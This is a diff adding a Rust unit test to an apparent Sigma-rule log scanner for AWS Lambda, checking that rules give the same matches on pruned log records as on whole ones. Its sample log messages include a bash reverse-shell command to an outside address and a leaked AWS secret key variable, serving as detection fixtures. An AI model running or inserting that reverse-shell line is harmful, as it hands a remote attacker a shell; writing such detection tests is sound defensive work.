@@ -344,6 +344,60 @@ mod tests {
         }
     }
 
+    /// Log lines too: the shipped rules read the message alone, a rule on `level` adds it, and a keyword
+    /// rule reads every field; each matches a pruned record as it matches the whole one.
+    #[test]
+    fn lambda_log_rules_match_a_record_of_the_fields_they_read_as_the_whole_record() {
+        use store::tables::{Borrowed, LogRow};
+        let level = "title: lvl\nlogsource: {product: aws, service: lambda}\ndetection:\n  selection:\n    level: ERROR\n    message|contains: token\n  condition: selection\n";
+        let keywords = "title: kw\nlogsource: {product: aws, service: lambda}\ndetection:\n  words:\n    - 'billing-export'\n  condition: words\n";
+        let messages = [
+            ("INFO", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+            ("INFO", "env: AWS_SECRET_ACCESS_KEY=abc"),
+            ("ERROR", "refresh token rejected"),
+            ("INFO", "refresh token rejected"),
+            ("INFO", "processed order 7"),
+        ];
+        let rows: Vec<LogRow<Borrowed>> = messages
+            .iter()
+            .map(|(level, message)| LogRow {
+                ts: 1_700_000_000_000_000,
+                function_name: Some("billing-export"),
+                log_stream: Some("2026/11/29/[$LATEST]abc"),
+                request_id: Some("r-1"),
+                level: Some(*level),
+                message: *message,
+                ..LogRow::default()
+            })
+            .collect();
+        let ids = |rules: Vec<&SigmaRule>| rules.into_iter().map(|r| r.id.clone()).collect::<Vec<_>>();
+        let matched = |rules: &SigmaRules| {
+            rows.iter()
+                .map(|row| {
+                    let pruned = ids(rules
+                        .matching_fields(Target::LambdaLogs, |keep| crate::security::rows::log_record_of(row, keep)));
+                    assert_eq!(
+                        pruned,
+                        ids(rules.matching(Target::LambdaLogs, crate::security::rows::log_record(row))),
+                        "{}",
+                        row.message
+                    );
+                    pruned.len()
+                })
+                .collect::<Vec<_>>()
+        };
+        let mut rules = SigmaRules::shipped();
+        let reads = &rules.reads[Target::LambdaLogs as usize];
+        assert!(!reads.all && reads.read("message") && !reads.read("level") && !reads.read("function_name"));
+        assert_eq!(matched(&rules), [1, 1, 0, 0, 0]);
+        rules.add("level.yml", level).unwrap();
+        assert!(rules.reads[Target::LambdaLogs as usize].read("level"));
+        assert_eq!(matched(&rules), [1, 1, 1, 0, 0]);
+        rules.add("keywords.yml", keywords).unwrap();
+        assert!(rules.reads[Target::LambdaLogs as usize].all);
+        assert_eq!(matched(&rules), [2, 2, 2, 1, 1]);
+    }
+
     #[test]
     fn broken_rules_are_all_reported() {
         let dir = std::env::temp_dir().join(format!("coldtrail-sigma-{}", std::process::id()));
